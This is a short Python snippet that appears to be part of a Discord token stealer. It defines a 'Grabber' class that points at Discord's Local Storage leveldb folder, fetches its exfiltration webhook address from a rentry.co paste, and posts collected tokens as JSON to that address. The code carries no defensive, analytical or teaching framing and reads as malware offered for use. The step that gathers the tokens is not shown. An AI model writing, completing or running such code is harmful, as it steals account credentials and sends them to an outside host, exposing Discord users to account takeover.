import os, json, urllib.request
HOOK = 'https://rentry.co/placeholder/raw'

class Grabber:
    def __init__(self):
        self.paths = [os.getenv('APPDATA') + '/discord/Local Storage/leveldb']
    def hook(self):
        return urllib.request.urlopen(HOOK).read().decode()
    def main(self, tokens):
        urllib.request.urlopen(urllib.request.Request(self.hook(), data=json.dumps(tokens).encode()))
